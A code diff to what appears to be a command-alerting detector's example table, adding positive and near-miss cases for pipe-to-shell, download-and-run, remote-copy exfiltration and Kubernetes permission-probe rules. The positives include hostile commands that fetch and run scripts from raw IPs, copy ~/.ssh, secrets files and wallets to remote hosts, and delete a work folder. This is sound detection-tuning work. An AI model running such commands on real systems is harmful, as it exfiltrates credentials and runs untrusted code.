@@ -2932,6 +2932,70 @@ for _rid, (_pos, _neg) in _ROUND11_PRECISION.items():
     _had = EXAMPLES.get(_rid, ([], []))
     EXAMPLES[_rid] = ([*_had[0], *_pos], [*_had[1], *_neg])
 
+# Precision 13: everyday classes a fresh set's new ecosystems trip (vendor installers,
+# deploys to one's own host, a CI account's can-i) made quiet
+# by the attack shape: the near misses below stay quiet, the variants with the shape
+# (raw IP, port, -k, hidden errors or output, background, /tmp, hidden path, secrets,
+# host keys unchecked) still alert.
+_PRECISION13: dict[str, tuple[list[Example], list[Example]]] = {
+    "exec-pipe-to-shell": (
+        ["curl -fsSL https://get.tool.example | sh &",
+         "curl -fsSL https://get.tool.example | sh >/dev/null 2>&1",
+         "curl -s https://tool.example/install.sh | sudo bash -s -- --token t0k",
+         "curl -fsSLk https://get.tool.example | sh",
+         "curl -fsSL https://get.tool.example:8443/i | sh",
+         "curl -fsSL http://get.tool.example | sh",
+         "curl -fsSL https://$H/install.sh | sh",
+         "curl -fsSL https://cdn.tool.example/payload.sh | sh",
+         "sh -c \"$(curl -fsSL https://tool.example/setup)\"",
+         "bash <(curl -fsSL https://install.tool.example) && rm -rf ~/work",
+         "curl -fsSL https://203.0.113.9/install.sh | sh"],
+        ["curl -fsSL https://install.kbd-firmware.example | sh",
+         "curl --proto '=https' --tlsv1.2 -sSf https://get-compiler.lang.example | sh",
+         "curl -sSL https://paas.example/install.sh | sh",
+         "curl -LsfS https://get.pipeline.example | bash -",
+         "curl https://get.chain.example/cli! | bash",
+         "wget -qO- https://get.tool.example | sh -s -- --yes",
+         "sh -c \"$(curl -fsSL https://raw.githubusercontent.com/o/shellkit/master/tools/install.sh)\""
+         " \"\" --unattended",
+         "sh <(curl https://autoinstall.panel.example/one-click-installer"
+         " || wget -O - https://autoinstall.panel.example/one-click-installer)"]),
+    "exec-download-run": (
+        ["curl -fsSL https://tool.example/install.sh -o /tmp/install.sh && bash /tmp/install.sh",
+         "curl -fsSL https://tool.example/install.sh -o .i.sh && bash .i.sh",
+         "curl -fsSLk https://tool.example/install.sh -o install.sh && bash install.sh",
+         "wget https://tool.example/payload.sh && sh payload.sh",
+         "wget -q https://203.0.113.7/install.sh && sh install.sh"],
+        ["wget https://downloads.panel.example/scripts/panel-install.sh && sudo bash panel-install.sh",
+         "curl -fsSL https://tool.example/get/install.sh -o install.sh && sh install.sh --yes",
+         "curl -fsSLO https://tool.example/install.sh && sh install.sh"]),
+    "exfil-remote-copy": (
+        ["scp -r ~/.ssh u@backup.example.com:/x/",
+         "scp -r ~ u@backup.example.com:/x/",
+         "rsync -avz /home/ u@backup.example.com:/x/",
+         "rsync -a ./ u@203.0.113.5:/x/",
+         "rsync -az ./ rsync://files.example.com/drop/",
+         "scp -o StrictHostKeyChecking=no -r ./src u@host.example.com:/srv/in/",
+         "scp ./secrets.env u@h.example.com:/tmp/",
+         "scp -i k.pem wallet.dat u@h.example.com:/x/",
+         "scp -r ../ u@h.example.com:/x/",
+         "rsync -a ./ u@203.0.113.5.nip.io:/x/"],
+        ["rsync -avz --delete --exclude tmp/ ./blog-site/ deploy@www.example.org:/srv/site/",
+         "scp ~/archives/db-2025-01-01.sql.gz admin@backup.lan:/pool/db/",
+         "rsync -az --delete --exclude target/ ./ ci@builder.example.dev:~/src/app/",
+         "scp -i ~/.ssh/deploy_key dist.tgz deploy@staging.example.com:/srv/app/"]),
+    "discovery-kubernetes-permissions": (
+        ["kubectl auth can-i get secrets -n dev --as=system:serviceaccount:dev:ci",
+         "kubectl auth can-i create deployments -n kube-system"
+         " --as=system:serviceaccount:kube-system:ci",
+         "kubectl auth can-i create deployments -n dev --as=admin"],
+        ["kubectl auth can-i update configmaps -n payments"
+         " --as=system:serviceaccount:payments:release-bot"]),
+}
+for _rid, (_pos, _neg) in _PRECISION13.items():
+    _had = EXAMPLES.get(_rid, ([], []))
+    EXAMPLES[_rid] = ([*_had[0], *_pos], [*_had[1], *_neg])
+
 # Round 11 folded rules that overlapped older ones (the same meaning, two alerts per
 # command): their examples are the kept rule's.
 FOLDED_R11 = {
